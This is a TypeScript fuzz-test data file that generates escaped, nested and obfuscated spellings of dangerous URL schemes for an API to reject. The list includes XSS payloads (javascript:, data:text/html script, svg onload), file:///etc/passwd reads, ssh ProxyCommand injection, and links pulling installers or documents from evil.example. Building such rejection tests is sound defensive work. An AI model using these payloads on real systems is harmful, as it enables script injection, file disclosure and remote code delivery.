import { proof } from '../../harness.ts';
import { REFUSED_SCHEMES, spellings, words } from '../../fuzz/bad-addresses.ts';

/** Schemes that the service must reject, and other schemes that run code or open a program. */
export const SCHEMES = [
  ...REFUSED_SCHEMES,
  ...words(`livescript mocha mhtml wyciwyg resource microsoft-edge moz-extension
    ms-msdt ms-cxh-full ms-its chrome-untrusted hcp mk applescript shortcuts ghelp x-man-page res disk
    app-prefs x-apple.systempreferences apt flatpak+https android.resource afp nfs dav ftp ssh telnet
    rdp ldap odopen edge devtools feeds itpc googlechrome firefox`),
];

const code = (char: string): number => char.charCodeAt(0);
const each = (text: string, spell: (char: string) => string): string =>
  Array.from(text, spell).join('');

/** C0 and DEL, the bidi marks, and invisible characters that comparisons ignore. */
const UNSEEN = [
  ...Array.from({ length: 32 }, (_, value) => String.fromCharCode(value)),
  ...Array.from(
    '\u007f\u0085\u2028\u2029\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069' +
      '\u00ad\u034f\u115f\u17b4\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u206a\u3164\ufe00\ufe0f' +
      '\ufeff\uffa0\u{1d173}\u{e0001}\u{e0061}\u{e0100}',
  ),
];

/**
 * Characters that some programs ignore, in every position: before the scheme, inside it, and around
 * the colon.
 */
function withUnseen(scheme: string): string[] {
  return UNSEEN.flatMap((char) => [
    `${char}${scheme}:alert(1)`,
    `${scheme.slice(0, 4)}${char}${scheme.slice(4)}:alert(1)`,
    `${scheme}${char}:alert(1)`,
    `${char}${char}${scheme.slice(0, 1)}${char}${scheme.slice(1)}${char}://${char}alert(1)`,
  ]);
}

/** Every letter escaped, and escaped more than once. */
function escapedOver(scheme: string): string[] {
  const percent = each(scheme, (char) => `%${code(char).toString(16)}`);
  const twice = percent.replaceAll('%', '%25');
  const decimal = each(scheme, (char) => `&#${code(char)}`);
  const hex = each(scheme, (char) => `&#x${code(char).toString(16)}`);
  const padded = each(scheme, (char) => `&#${String(code(char)).padStart(7, '0')};`);
  return [
    ...[percent, percent.toUpperCase(), twice].flatMap((name) => [
      `${name}:alert(1)`,
      `${name}%3Aalert(1)`,
      `${name}%253a//alert(1)`,
    ]),
    `${decimal}&#58alert(1)`,
    `${decimal}&#58;alert(1)`,
    `${hex};&#x3a;alert(1)`,
    `${padded}&colon;alert(1)`,
    `${percent}&colon;alert(1)`,
    `${decimal}%3aalert(1)`,
    `${each(scheme, (char) => `&#37;${code(char).toString(16)}`)}:alert(1)`,
    `${each(scheme, (char) => `%26%23${code(char)}%3B`)}:alert(1)`,
  ];
}

/** Slashes of both kinds, too few and too many, with common text after them. */
function slashed(scheme: string): string[] {
  return words(`
    ${scheme}:/alert(1) ${scheme}:///alert(1) ${scheme}:////alert(1) ${scheme}:\\alert(1)
    ${scheme}:\\\\alert(1) ${scheme}:/\\alert(1) ${scheme}:\\/alert(1) \\${scheme}:alert(1)
    ${scheme}\\:alert(1) ${scheme}://shop.example/%0aalert(1) ${scheme}://shop.example@x
    ${scheme}:https://shop.example/ ${scheme}:alert(1)//https://shop.example/
    ${scheme}:alert(1)?https://shop.example/ ${scheme}:alert(1)#https://shop.example/
    ${scheme}:void(0) ${scheme}:'https://shop.example/' ${scheme}:&#97;lert(1) ${scheme}:%61lert(1)`);
}

/** A scheme that contains another one, for programs that remove a dangerous scheme once. */
function nested(scheme: string): string[] {
  return [
    ...words(
      'view-source jar blob filesystem about data intent android-app ms-word wyciwyg chrome',
    ),
    ...words('javascript http https HTTP'),
  ]
    .map((outer) => `${outer}:${scheme}:alert(1)`)
    .concat(
      words(`
      jar:${scheme}:alert(1)!/x.html view-source:view-source:${scheme}:alert(1)
      intent://shop.example/#Intent;scheme=${scheme};package=com.shop.app;end
      intent:${scheme}:alert(1)#Intent;package=com.shop.app;end
      intent://x#Intent;scheme=https;S.browser_fallback_url=${scheme}:alert(1);end
      intent:#Intent;component=com.shop.app/.Main;S.url=${scheme}:alert(1);end
      INTENT://x#Intent;scheme=${scheme};end android-app://com.shop.app/${scheme}/alert(1)`),
    );
}

const DATA = words(`
  data:, data:,x data:x data:text/html,<script>alert(1)</script> data:text/html;charset=utf-8,<b>
  data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== data:;base64,PGI+ DATA:TEXT/HTML,<b>
  data:image/svg+xml,<svg/onload=alert(1)> data:image/svg+xml;utf8,<svg/> data:application/xhtml+xml,x
  data:text/html;charset=utf-7,+ADw-script+AD4- data:application/javascript,alert(1) data://text/html,x
  data:text/xml,<?xml?> data:application/pdf;base64,JVBERi0 data:/text/html,x data:\ttext/html,x
  javascript:alert(1) JAVASCRIPT:alert(1) javascript:javascript:alert(1) javascript:{} javascript:
  javascript:/*https://shop.example/*/alert(1) javascript:"https://shop.example/";alert(1)
  javascript:history.back() javascript:location='https://evil.example' vbscript:msgbox(1)
  vbs\tcript:msgbox(1) file:c:/windows/win.ini file:///etc/passwd file://localhost/etc/passwd
  file:\\\\server\\share file://///server/share FILE:/etc/passwd file:.. about:blank about:srcdoc
  about:config about:// blob:https://shop.example/5 blob:null/5 filesystem:https://shop.example/temporary/x
  view-source:https://shop.example/ content://com.android.providers/x jar:https://shop.example/a.jar!/b
  ws://shop.example wss://shop.example/x chrome://settings chrome-extension://abc/x.html
  ms-settings:privacy ms-word:ofe|u|https://evil.example/a.docm ms-appinstaller:?source=https://evil.example
  feed:https://evil.example/ feed:javascript:alert(1) shell:startup shell:::{645FF040-5081-101B-9F08-00AA002F954E}
  jnlp://evil.example/a.jnlp itms-services://?action=download-manifest&url=https://evil.example/m.plist
  search:query=x search-ms:query=x smb://evil.example/share x-safari-https://evil.example/
  x-safari-http://evil.example/ ssh://-oProxyCommand=x/ help:runscript=x ghelp:///proc/self/cwd
  ms-msdt:/id search-ms:query=x&crumb=location:\\\\evil.example`);

/**
 * Texts that some program reads as an address with one of these schemes. The API rejects each of
 * them, and none has an effect.
 */
export const REFUSED_SPELLINGS: readonly string[] = [
  ...new Set([
    ...SCHEMES.flatMap((scheme) => [
      ...spellings(scheme),
      ...escapedOver(scheme),
      ...slashed(scheme),
      ...nested(scheme),
    ]),
    ...words('javascript data').flatMap(withUnseen),
    ...DATA,
  ]),
];

/**
 * The long version uses all spellings. The short one uses every fifth, with a different offset per
 * scheme.
 */
export const SPELLINGS = REFUSED_SPELLINGS.filter((_, index) => proof || index % 5 === 0);
